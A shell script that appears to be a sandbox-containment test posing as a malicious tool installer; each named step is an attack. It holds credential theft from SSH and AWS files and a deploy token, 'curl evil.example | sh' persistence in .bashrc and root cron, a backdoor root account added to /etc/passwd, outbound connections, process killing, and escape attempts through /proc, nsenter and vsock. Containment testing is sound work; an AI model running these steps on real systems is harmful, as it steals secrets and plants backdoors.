#!/bin/sh
# download.sh VICTIM DOOR STEP...: the installer of a nice new tool, as found on the net. Each step is an attack
# that works where nobody stops it; the story runs it outside, too, on a home of straw.
victim=$1  # a process of the host
door=$2  # a port on the host's loopback
shift 2

steal() {
  for file in "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials"; do
    echo "LOOT $(cat "$file")"
  done
  echo "LOOT ${DEPLOY_TOKEN-}"
}
persist() { echo 'curl evil.example | sh' >> "$HOME/.bashrc"; }
persist_in_system() {
  echo '* * * * * root curl evil.example | sh' > /etc/cron.d/nice-tool
  echo 'evil::0:0::/:/bin/sh' >> /etc/passwd
}
phone_home() {
  python3 - "$door" << 'END'
import socket, sys
for address in ("127.0.0.1", int(sys.argv[1])), ("192.0.2.1", 443):
    try:
        socket.create_connection(address, 3).sendall(b"HELLO\n")
    except OSError as error:
        print(address[0], error)
END
}
kill_others() { kill -9 "$victim"; }
stay() { setsid sh -c 'while :; do echo nice-tool > "$HOME/beacon.new"; mv "$HOME/beacon.new" "$HOME/beacon"; sleep 0.05; done' > /dev/null 2>&1 & }
through_proc() {
  for process in 1 self "$victim"; do
    echo "LOOT $(cat "/proc/$process/root$HOME/.ssh/id_ed25519")"
    echo evil >> "/proc/$process/root$HOME/.profile"
  done
}
through_kernel() {
  mount -t tmpfs none /mnt
  nsenter --target 1 --mount true
  python3 -c 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)'
}

for step; do
  $step || true
  echo "done: $step"
done
